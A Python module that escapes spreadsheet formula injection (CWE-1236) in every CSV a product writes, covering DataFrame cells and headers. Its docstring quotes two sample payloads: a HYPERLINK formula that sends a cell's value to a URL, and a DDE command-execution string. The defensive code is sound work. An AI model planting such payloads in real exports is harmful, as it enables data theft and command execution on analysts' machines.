"""Every CSV the product writes goes through here, so no cell opens as a formula (CWE-1236).

A spreadsheet reads a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a
formula: text loaded from a sender's file (`=HYPERLINK("http://…?x="&A1,"Ver")`,
`+cmd|' /C calc'!A0`) would run on the analyst's machine when an export is opened. OWASP's
rule: such a text cell gets a leading single quote, which Excel and LibreOffice show as text
and do not evaluate; the CSV writer then quotes cells as usual.

Numbers are not escaped: values of a numeric type are written as numbers (a negative number
stays negative), and so is text that is exactly a number (`-12,5`, `+3`, `-1.234,5`: a sign,
ASCII digits with `.` or `,`, an optional exponent). Such text holds no formula, and the
quarantine file, whose cells are the sender's text, goes back to the loader unchanged.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import IO, Any

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A number as text: sign, ASCII digits with '.'/',' separators, an optional exponent.
NUMBER_TEXT = re.compile(r"[+-]?(?:[0-9][0-9.,]*|[.,][0-9][0-9.,]*)(?:[eE][+-]?[0-9]+)?")
CRLF = "\r\n"
_STARTS_LIKE_FORMULA = r"^[=+\-@\t\r]"


def escape_cell(value: object) -> object:
    """The value as a CSV cell may hold it: text that a spreadsheet would run as a formula
    gets a leading `'`; everything else (numbers, dates, None, safe text) is returned as is."""
    risky = isinstance(value, str) and value.startswith(FORMULA_START)
    return "'" + value if risky and not NUMBER_TEXT.fullmatch(value) else value  # type: ignore[operator]


def escape_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells are escaped as `escape_cell` does (vectorised per
    column); numeric, boolean and date columns are left as they are."""
    out = frame.copy(deep=False)
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)
        if not (pd.api.types.is_object_dtype(column) or pd.api.types.is_string_dtype(column)):
            continue
        try:
            text = column.str
        except AttributeError:  # an object column without text (numbers, dates, None)
            continue
        risky = text.contains(_STARTS_LIKE_FORMULA, regex=True, na=False).astype(bool)
        risky &= ~text.fullmatch(NUMBER_TEXT.pattern, na=False).astype(bool)
        if risky.any():
            column = column.copy()
            column[risky] = "'" + column[risky].astype(str)
            out.isetitem(position, column)
    return out


def to_csv(frame: pd.DataFrame, target: str | Path | IO[str] | None = None, **kwargs: Any):
    """`frame.to_csv(target, **kwargs)` with formula-leading text escaped, in the cells and in
    the header: the one way the product writes a CSV (the text when `target` is None).

    Lines end in CRLF (RFC 4180), so a cell holding a CR or LF is always quoted: unquoted, a
    spreadsheet would start a new row there, and the text after it could be a formula."""
    terminator = kwargs.setdefault("lineterminator", CRLF)
    if terminator != CRLF:
        raise ValueError("un CSV del tablero termina sus líneas en CRLF")
    safe = escape_frame(frame)
    safe.columns = [escape_cell(name) for name in frame.columns]  # a sender's header too
    return safe.to_csv(target, **kwargs)
